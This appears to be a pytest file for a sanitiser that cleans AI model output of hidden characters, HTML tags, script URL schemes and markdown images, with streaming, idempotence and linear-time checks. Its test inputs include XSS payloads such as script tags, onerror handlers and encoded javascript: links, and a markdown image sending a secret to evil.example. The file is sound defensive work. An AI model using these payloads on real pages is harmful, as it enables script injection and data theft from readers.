"""A model's text can do nothing to its reader, whole or in pieces, and keeps what it says."""

import random
import time
from typing import Literal

import pytest

from ai_base.text.clean import Cleaner, clean, clean_value

SCHEMES = ["javascript:", "vbscript:", "data:text/html"]
PIECES = [*"!![[<&javscrpt:bd/>;#x96 \t\n", "java", "script:", *SCHEMES, "<b>", "</blockquote />", "&#106;", "&Tab;"]
PIECES += ["![", "\u200d", "👩", "\ufe0f", "\u0627", "\u200c", "\u200b", "\x00", "\t\t\t", "&#x6a;", "<script>", "é"]


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("a\x00b\x07c\x1b[31md\r\ne\tf\x85", "abc[31md\ne\tf"),
        ("abc\u202edef\u2066g\u200fh", "abcdefgh"),
        ("a\u200bb\ufeffc\u00add\u2060e\U000e0041\U000e0020f\U000e0101g", "abcdefg"),
        ("x\ufe00\ufe01\ufe0fy", "xy"),
        ("a\ud800b", "ab"),
        ("a\u200db\u200cc \u200d", "abc "),
        ("![logo](https://evil.example/?q=secret)", "[logo](https://evil.example/?q=secret)"),
        ("wow!![a][b] !\u200b[c](d)", "wow!! [a][b] [c](d)"),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("<img src=x onerror=y> <b onclick=z>", "&lt;img src=x onerror=y> &lt;b onclick=z>"),
        ("<!-- x --> <?xml?> <\u200bscript> <SVG/onload=x>", "&lt;!-- x --> &lt;?xml?> &lt;script> &lt;SVG/onload=x>"),
        ("<scr<b>ipt>", "&lt;scr<b>ipt>"),
        ("<script", "&lt;script"),
        ("[x](JavaScript:alert(1))", "[x](JavaScript :alert(1))"),
        ("java\tscr\nipt:x vb\u200bscript:y", "java\tscr\nipt :x vbscript :y"),
        ("data:text/html;base64,PHN", "data :text/html;base64,PHN"),
        (
            "java&#9;script:x &#106;ava &#x6A; &#0000106;",
            "java&amp;#9;script:x &amp;#106;ava &amp;#x6A; &amp;#0000106;",
        ),
        ("java&Tab;script&colon;x&NewLine;", "java&amp;Tab;script&amp;colon;x&amp;NewLine;"),
    ],
)
def test_what_could_act_or_hide_is_defused(text: str, cleaned: str) -> None:
    assert clean(text) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        "a < b, b > c, 1<2, <3, a & b, wow! [x](https://x.example/?a=1&b=2)",
        "<b>x</b> <br> <br /> <CODE>y</CODE> <ul><li>z</li></ul> <blockquote>q</blockquote>",
        "&lt;b> &amp; &eacute; &#39; &#34; &#233; &#8217; &#x2019; &#x27;",
        "👩‍👩‍👧 ❤️‍🔥 👍🏽 1️⃣ 🏳️‍🌈 ©️",
        "می‌خواهم क्‍ष",
        "javascript is a language; data:image/png;base64,iVBOR; see text/html",
        "Zeilen\n\tmit Umlauten: äöü ß „ja“ 中文 日本語 עברית",
    ],
)
def test_what_is_harmless_stays(text: str) -> None:
    assert clean(text) == text


def test_who_shows_text_as_it_is_keeps_every_angle_bracket() -> None:
    assert clean("List<int> <b onclick=x> ![x](y)\x00", html="keep") == "List<int> <b onclick=x> [x](y)"
    assert clean("List<int>") == "List&lt;int>"


@pytest.mark.parametrize("html", ["escape", "keep"])
def test_however_a_stream_is_cut_the_result_is_the_same(html: Literal["escape", "keep"]) -> None:
    choose = random.Random(0)  # noqa: S311 - the same each time
    for _ in range(3000):
        text = "".join(choose.choices(PIECES, k=choose.randrange(25)))
        cleaner, streamed, at = Cleaner(html), "", 0
        while at < len(text):
            size = choose.choice([1, 1, 2, 3, 7])
            streamed += cleaner.feed(text[at : at + size])
            at += size

        assert streamed + cleaner.close() == clean(text, html), text


def test_cleaning_twice_changes_nothing_more() -> None:
    choose = random.Random(0)  # noqa: S311 - the same each time
    for _ in range(3000):
        cleaned = clean("".join(choose.choices(PIECES, k=25)))
        assert clean(cleaned) == cleaned


@pytest.mark.parametrize("piece", [*PIECES, *(scheme[:-1] for scheme in SCHEMES), "j\t\t\t\t\t\t\t\t", "<b", "&#"])
def test_a_stream_holds_back_little(piece: str) -> None:
    cleaner = Cleaner()

    emitted = sum(len(cleaner.feed(character)) for character in (piece + "x") * 100 + piece * 1000)

    assert len(cleaner.close()) <= 200
    assert emitted > 0 or not clean(piece * 3000)


def test_plain_words_are_not_held_back() -> None:
    cleaner = Cleaner()

    assert [cleaner.feed(piece) for piece in ["Hello", " wor", "ks", ". It"]] == ["Hello", " wor", "ks", ". It"]
    assert cleaner.feed(" is J") == " is "
    assert cleaner.feed("ava") == ""
    assert cleaner.feed(".") == "Java."


def test_every_string_of_a_value_is_cleaned() -> None:
    value = clean_value({"a\x00": ["<i>", "<script>", {"b": "![x](y)"}], "n": 1.5, "t": True, "z": None})

    assert value == {"a": ["<i>", "&lt;script>", {"b": "[x](y)"}], "n": 1.5, "t": True, "z": None}
    assert clean_value(["<script>"], html="keep") == ["<script>"]


@pytest.mark.parametrize(
    "piece", ["!", "[", "<", "&", "j", "java\t\t\t\t", "javascript", "<b", "&#", "\u200d", "data:text/"]
)
def test_hostile_text_takes_linear_time(piece: str) -> None:
    def seconds(length: int) -> float:
        text, times = (piece * length)[:length], []
        for _ in range(3):  # the shortest is the least disturbed
            started = time.perf_counter()
            clean(text)
            times.append(time.perf_counter() - started)
        return min(times)

    # Ten times the text. Quadratic time would be a hundred times; what is hardly measurable is no evidence.
    assert seconds(100_000) < 30 * max(seconds(10_000), 0.002)
